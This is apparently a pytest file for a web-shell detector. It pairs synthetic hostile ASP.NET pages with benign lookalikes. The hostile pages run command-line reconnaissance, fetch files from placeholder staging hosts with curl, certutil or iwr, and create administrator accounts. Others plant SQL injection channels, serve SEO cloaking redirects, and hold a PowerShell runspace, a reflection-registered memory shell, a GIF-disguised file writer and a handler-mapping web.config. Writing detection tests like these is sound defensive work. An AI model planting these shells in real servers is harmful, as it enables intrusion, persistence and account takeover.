"""Rules and kept findings from the thirteenth unseen collection: shells from exploits, frameworks and kits
(issue 14, helper X15).

Shapes the own rules missed on first sight (BENCHMARKS.md, "Unseen shells, thirteenth collection"): an
exploit's check page and a training page that start cmd.exe with a reconnaissance command written in the
page (output written back, no request input); a PoC callback page that starts curl on a fixed URL; a kit
page that creates a local user with a fixed password and puts it into Administrators and Remote Desktop
Users; and a planted SQL channel that appends the raw request to a query against an account dictionary
ending in a constant comparison; and (batch 2) an SEO kit's page that sends visitors arriving from a search
engine to another site while crawlers get keywords. The rules (``data/rules/kit_actions.yar``) match those actions; the pages
below reproduce them and the ordinary pages closest to them. A second group keeps shapes of this collection
that only the behaviour analysis found (no YARA rule of ours fired): a PowerShell runspace fed by a WebForms
text box, a VirtualPathProvider memory shell registered by reflection kept as an App_Code class, a file
writer driven by two text boxes behind a GIF header, and a web.config that maps a static extension to the
page compiler (build provider and handler). All pages were written for
these tests: nothing is compiled or run, the commands, hosts, accounts and passwords are placeholders, and
none is a copy of a real shell.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from extriage.detections.webfiles import content

from .rule_tables import Page, behaviour_sinks, rule_tables

# --- cmd or PowerShell started with a reconnaissance command written in the page -------------------------
BAKED_RECON: list[Page] = [
    (
        "cs-inline-cmd-whoami-output",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Diagnostics" %>\n<%\n'
        "var p = new Process();\n"
        'p.StartInfo.FileName = "cmd";\np.StartInfo.Arguments = "/c whoami /all";\n'
        "p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true;\n"
        "p.Start();\nResponse.Write(p.StandardOutput.ReadToEnd());\n%>",
    ),
    (
        "cs-script-method-fed-a-literal",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        'void Page_Load(object s, EventArgs e) { Run("ipconfig /all"); }\n'
        "void Run(string c) {\n"
        "  var p = new System.Diagnostics.Process();\n"
        '  p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + c;\n'
        "  p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true;\n"
        "  p.StartInfo.CreateNoWindow = true; p.Start();\n"
        "  Response.Write(p.StandardOutput.ReadToEnd());\n}\n</script>",
    ),
    (
        "vb-powershell-net-localgroup",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%\n'
        'Dim i As New System.Diagnostics.ProcessStartInfo("powershell.exe", "net localgroup administrators")\n'
        "i.UseShellExecute = False : i.RedirectStandardOutput = True\n"
        "Response.Write(System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd())\n%>",
    ),
]

BAKED_RECON_ORDINARY: list[Page] = [
    (
        "ping-tool-own-program",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'var i = new System.Diagnostics.ProcessStartInfo("ping.exe", "-n 1 db01.example.invalid");\n'
        "i.UseShellExecute = false; i.RedirectStandardOutput = true;\n"
        "Status.Text = System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd();\n%>",
    ),
    (
        "legacy-share-mapping",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'var i = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c net use S: \\\\\\\\files01\\\\scans");\n'
        "i.UseShellExecute = false; i.CreateNoWindow = true;\n"
        "System.Diagnostics.Process.Start(i).WaitForExit();\n%>",
    ),
    (
        "export-batch-through-cmd",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'var i = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c \\"C:\\\\apps\\\\export\\\\nightly.bat\\"");\n'
        "i.UseShellExecute = false; i.RedirectStandardOutput = true;\n"
        "Log.Text = System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd();\n%>",
    ),
    (
        "help-page-names-commands",
        ".aspx",
        '<%@ Page Language="C#" %>\n<p>Ask the help desk to run "whoami" and "ipconfig /all" and send us the output.</p>\n'
        '<% Label1.Text = "cmd"; %>',
    ),
]

# --- a download tool started on a fixed address ---------------------------------------------------------
DOWNLOAD_TOOLS: list[Page] = [
    (
        "cs-process-curl-callback",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Diagnostics" %>\n'
        '<% Process.Start("curl -k https://callback.example.invalid/ping"); %>',
    ),
    (
        "cs-certutil-fetch",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="F" %>\n'
        "public class F : System.Web.IHttpHandler {\n"
        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
        '    System.Diagnostics.Process.Start("cmd.exe", "/c certutil -urlcache -split -f http://stage.example.invalid/a.txt %TEMP%\\\\a.txt");\n'
        "  }\n  public bool IsReusable { get { return false; } }\n}",
    ),
    (
        "vb-powershell-iwr",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%\n'
        'Dim i As New System.Diagnostics.ProcessStartInfo("powershell.exe", "-c iwr https://stage.example.invalid/s.ps1 -OutFile $env:TEMP\\s.ps1")\n'
        "System.Diagnostics.Process.Start(i)\n%>",
    ),
]

DOWNLOAD_TOOLS_ORDINARY: list[Page] = [
    (
        "feed-through-webclient",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'Feed.Text = new System.Net.WebClient().DownloadString("https://news.example.invalid/rss");\n%>',
    ),
    (
        "curl-version-only",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'var i = new System.Diagnostics.ProcessStartInfo("curl.exe", "--version");\n'
        "i.UseShellExecute = false; i.RedirectStandardOutput = true;\n"
        "Ver.Text = System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd();\n%>",
    ),
    (
        "api-docs-show-curl",
        ".aspx",
        '<%@ Page Language="C#" %>\n<pre>curl -H "Authorization: Bearer TOKEN" https://api.example.invalid/v1/items</pre>\n'
        '<% Title = "API"; %>',
    ),
    (
        "powershell-local-script",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'System.Diagnostics.Process.Start("powershell.exe", "-File C:\\\\apps\\\\cleanup.ps1 -Url https://intranet.example.invalid/");\n%>',
    ),
]

# --- a local account made and put into a privileged group -----------------------------------------------
ADMIN_ACCOUNTS: list[Page] = [
    (
        "cs-accountmanagement-admin",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.DirectoryServices.AccountManagement" %>\n'
        '<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        "  var ctx = new PrincipalContext(ContextType.Machine);\n"
        '  var u = new UserPrincipal(ctx, "svc_backup", "Placeholder-1", true); u.Save();\n'
        '  var g = GroupPrincipal.FindByIdentity(ctx, "Administrators"); g.Members.Add(u); g.Save();\n'
        "}\n</script>",
    ),
    (
        "vb-adsi-winnt-rdp-group",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%\n'
        'Dim m As New System.DirectoryServices.DirectoryEntry("WinNT://" & Environment.MachineName & ",computer")\n'
        'Dim u = m.Children.Add("helpdesk2", "user")\n'
        'u.Invoke("SetPassword", "Placeholder-2") : u.CommitChanges()\n'
        'Dim g = m.Children.Find("Remote Desktop Users", "group")\n'
        'g.Invoke("Add", u.Path)\n%>',
    ),
    (
        "cs-net-user-add",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="A" %>\n'
        "public class A : System.Web.IHttpHandler {\n"
        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
        '    System.Diagnostics.Process.Start("cmd.exe", "/c net user support1 Placeholder-3 /add && net localgroup administrators support1 /add");\n'
        "  }\n  public bool IsReusable { get { return false; } }\n}",
    ),
]

ADMIN_ACCOUNTS_ORDINARY: list[Page] = [
    (
        "domain-user-into-staff-group",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Create_Click(object s, EventArgs e) {\n'
        '  var ctx = new System.DirectoryServices.AccountManagement.PrincipalContext(System.DirectoryServices.AccountManagement.ContextType.Domain, "corp.example.invalid");\n'
        "  var u = new System.DirectoryServices.AccountManagement.UserPrincipal(ctx, Login.Text, Pw.Text, true); u.Save();\n"
        '  var g = System.DirectoryServices.AccountManagement.GroupPrincipal.FindByIdentity(ctx, "Staff"); g.Members.Add(u); g.Save();\n'
        "}\n</script>",
    ),
    (
        "list-local-administrators",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.DirectoryServices.AccountManagement" %>\n<%\n'
        "var ctx = new PrincipalContext(ContextType.Machine);\n"
        'foreach (var m in GroupPrincipal.FindByIdentity(ctx, "Administrators").GetMembers()) Response.Write(m.Name + "<br>");\n%>',
    ),
    (
        "app-pool-user-into-iis-group",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.DirectoryServices.AccountManagement" %>\n<%\n'
        "var ctx = new PrincipalContext(ContextType.Machine);\n"
        'var u = new UserPrincipal(ctx, "apppool_reports", "Placeholder-4", true); u.Save();\n'
        'var g = GroupPrincipal.FindByIdentity(ctx, "IIS_IUSRS"); g.Members.Add(u); g.Save();\n%>',
    ),
    (
        "admin-guide-quotes-net-user",
        ".aspx",
        '<%@ Page Language="C#" %>\n<p>To add a kiosk account run: net user kiosk1 PASSWORD /add</p>\n<% Title = "Guide"; %>',
    ),
]

# --- request appended raw to a query that ends in a constant comparison ---------------------------------
SQL_CHANNELS: list[Page] = [
    (
        "cs-handler-dictionary-contradiction",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="L" %>\nusing System.Data.OracleClient;\n'
        "public class L : System.Web.IHttpHandler {\n"
        "  public void ProcessRequest(System.Web.HttpContext context) {\n"
        '    string q = "SELECT 1 FROM DBA_USERS where 7=1"+context.Request["id"];\n'
        '    using (var c = new OracleConnection("Data Source=db.example.invalid;User Id=app;Password=Placeholder-5;")) {\n'
        "      c.Open(); var r = new OracleCommand(q, c).ExecuteReader();\n"
        "      while (r.Read()) context.Response.Write(r.GetString(0));\n    }\n  }\n"
        "  public bool IsReusable { get { return false; } }\n}",
    ),
    (
        "vb-tautology-then-request",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%\n'
        'Dim sql As String = "select name from sys.sql_logins where 1=1" & Request.QueryString("f")\n'
        'Dim cmd As New System.Data.SqlClient.SqlCommand(sql, New System.Data.SqlClient.SqlConnection("Server=.;Integrated Security=true"))\n'
        "cmd.Connection.Open()\nResponse.Write(cmd.ExecuteScalar())\n%>",
    ),
]

SQL_CHANNELS_ORDINARY: list[Page] = [
    (
        "search-builds-clauses-itself",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'string sql = "select * from news where 1=1";\n'
        'if (Request["cat"] != null) sql += " and category = @cat";\n'
        "var cmd = new System.Data.SqlClient.SqlCommand(sql, Conn);\n"
        'cmd.Parameters.AddWithValue("@cat", Request["cat"]);\nGrid.DataSource = cmd.ExecuteReader();\n%>',
    ),
    (
        "quoted-filter-after-tautology",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'var cmd = new System.Data.SqlClient.SqlCommand("select * from items where 1=1 and title like \'%" + Request["q"] + "%\'", Conn);\n'
        "Grid.DataSource = cmd.ExecuteReader();\n%>",
    ),
    (
        "numeric-id-filter",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'var cmd = new System.Data.SqlClient.SqlCommand("select title from items where id=" + Request["id"], Conn);\n'
        "Title = (string)cmd.ExecuteScalar();\n%>",
    ),
]

# --- batch 2: search visitors redirected to another site, crawlers served keywords -----------------------
CLOAKING: list[Page] = [
    (
        "cs-referrer-redirect-location-header",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'string ua = (Request.UserAgent ?? "").ToLower();\n'
        'string r = (Request.UrlReferrer == null ? "" : Request.UrlReferrer.ToString()).ToLower();\n'
        'bool bot = ua.Contains("googlebot") || ua.Contains("bingbot") || ua.Contains("baiduspider");\n'
        'if (!bot && r.Contains("google")) {\n'
        '  Response.StatusCode = 302; Response.AddHeader("Location", "https://spam.example.invalid/offer"); Response.End();\n}\n'
        "%>\n<html><head><title>placeholder keywords</title></head><body>placeholder keywords</body></html>",
    ),
    (
        "vb-server-variable-redirect",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%\n'
        'Dim ua As String = LCase(Request.ServerVariables("HTTP_USER_AGENT"))\n'
        'Dim rf As String = LCase(Request.ServerVariables("HTTP_REFERER"))\n'
        'If InStr(ua, "yandexbot") = 0 And InStr(ua, "slurp") = 0 And InStr(rf, "bing") > 0 Then\n'
        '  Response.Redirect("http://doorway.example.invalid/")\nEnd If\n%>\n<p>placeholder keywords</p>',
    ),
]

CLOAKING_ORDINARY: list[Page] = [
    (
        "language-redirect-skips-crawlers",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'string ua = (Request.UserAgent ?? "").ToLower();\n'
        'if (!ua.Contains("googlebot") && !ua.Contains("bingbot") && Request.UserLanguages != null)\n'
        '  Response.Redirect("/" + Request.UserLanguages[0].Substring(0, 2) + "/");\n%>',
    ),
    (
        "search-visitor-banner",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'string r = Request.UrlReferrer == null ? "" : Request.UrlReferrer.Host;\n'
        'Banner.Visible = r.Contains("google") || r.Contains("bing");\n%>\n<p>Welcome!</p>',
    ),
    (
        "crawler-statistics",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'string[] bots = { "googlebot", "bingbot", "yandexbot" };\n'
        'string r = Request.ServerVariables["HTTP_REFERER"] ?? "";\n'
        'foreach (var b in bots) if ((Request.UserAgent ?? "").ToLower().Contains(b)) Stats.Count(b, r.Contains("google"));\n%>',
    ),
    (
        "partner-link-redirect",
        ".aspx",
        '<%@ Page Language="C#" %>\n<% Response.Redirect("https://partner.example.invalid/welcome"); %>',
    ),
]

CASES = (
    ("EXT_WEBSHELL_Interpreter_With_Baked_Recon_Command", BAKED_RECON, BAKED_RECON_ORDINARY),
    ("EXT_WEBSHELL_Process_Download_Tool_Fixed_Address", DOWNLOAD_TOOLS, DOWNLOAD_TOOLS_ORDINARY),
    ("EXT_WEBSHELL_Local_Admin_Account_Creation", ADMIN_ACCOUNTS, ADMIN_ACCOUNTS_ORDINARY),
    ("EXT_WEBSHELL_SQL_Request_Appended_After_Constant_Predicate", SQL_CHANNELS, SQL_CHANNELS_ORDINARY),
    ("EXT_WEBSHELL_Search_Referrer_Redirect_Cloaking", CLOAKING, CLOAKING_ORDINARY),
)

test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)


# --- shapes only the behaviour analysis found on first sight: kept found -------------------------------
BEHAVIOUR_ONLY: list[tuple[str, str, str, str]] = [
    (
        "powershell-runspace-from-textbox",
        ".aspx",
        "powershell-host",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Management.Automation.Runspaces" %>\n'
        '<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        "  if (!IsPostBack || In.Text.Length == 0) return;\n"
        "  var rs = RunspaceFactory.CreateRunspace(); rs.Open();\n"
        '  var pl = rs.CreatePipeline(); pl.Commands.AddScript(In.Text); pl.Commands.Add("Out-String");\n'
        "  foreach (var o in pl.Invoke()) Out.Text += o.ToString();\n  rs.Close();\n}\n</script>\n"
        '<form runat="server"><asp:TextBox ID="In" runat="server" /><asp:TextBox ID="Out" runat="server" /></form>',
    ),
    (
        "vpp-memshell-app-code-class",
        ".cs",
        "reflection-invoke",
        "using System; using System.Reflection; using System.Web; using System.Web.Hosting;\n"
        "public class Installer {\n"
        "  public Installer() {\n"
        '    MethodInfo m = typeof(HostingEnvironment).GetMethod("RegisterVirtualPathProviderInternal", BindingFlags.Static | BindingFlags.NonPublic);\n'
        "    m.Invoke(null, new object[] { new Keeper() });\n  }\n"
        "  class Keeper : VirtualPathProvider {\n"
        "    public override string GetCacheKey(string p) {\n"
        "      var r = HttpContext.Current.Request;\n"
        '      if (r.Headers["X-T"] == "k") {\n'
        '        byte[] b = Convert.FromBase64String(r.Form["d"]);\n'
        '        var a = (Assembly)typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { b });\n'
        '        a.CreateInstance("P").Equals(HttpContext.Current);\n'
        "      }\n      return Previous.GetCacheKey(p);\n    }\n  }\n}",
    ),
    (
        "textbox-file-writer-behind-gif-header",
        ".aspx",
        "file-write",
        'GIF89a<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Save_Click(object s, EventArgs e) {\n"
        "  var w = new System.IO.FileInfo(Path.Text).CreateText(); w.Write(Body.Text); w.Close();\n"
        "}\n</script>\n"
        '<form runat="server"><asp:TextBox ID="Path" runat="server" /><asp:TextBox ID="Body" runat="server" TextMode="MultiLine" />'
        '<asp:Button runat="server" OnClick="Save_Click" Text="Save" /></form>',
    ),
    (
        "txt-mapped-to-page-compiler",
        ".config",
        "config-handler",
        '<?xml version="1.0" encoding="UTF-8"?>\n<configuration>\n  <system.web>\n    <compilation>\n'
        '      <buildProviders>\n        <add extension=".txt" type="System.Web.Compilation.PageBuildProvider" />\n'
        "      </buildProviders>\n    </compilation>\n  </system.web>\n  <system.webServer>\n    <handlers>\n"
        '      <add name="TxtPages" path="*.txt" verb="*" type="System.Web.UI.PageHandlerFactory" resourceType="File" />\n'
        "    </handlers>\n  </system.webServer>\n</configuration>\n",
    ),
]


@pytest.mark.parametrize(("case", "ext", "sink", "page"), BEHAVIOUR_ONLY, ids=[c[0] for c in BEHAVIOUR_ONLY])
def test_behaviour_only_shape_stays_found(
    tmp_path: Path, params: content.ContentParams, case: str, ext: str, sink: str, page: str
) -> None:
    name = {".cs": f"App_Code/{case}.cs", ".config": f"{case}/web.config"}.get(ext, f"{case}{ext}")
    sinks = behaviour_sinks(tmp_path, name, page, params)
    assert sink in sinks, sinks
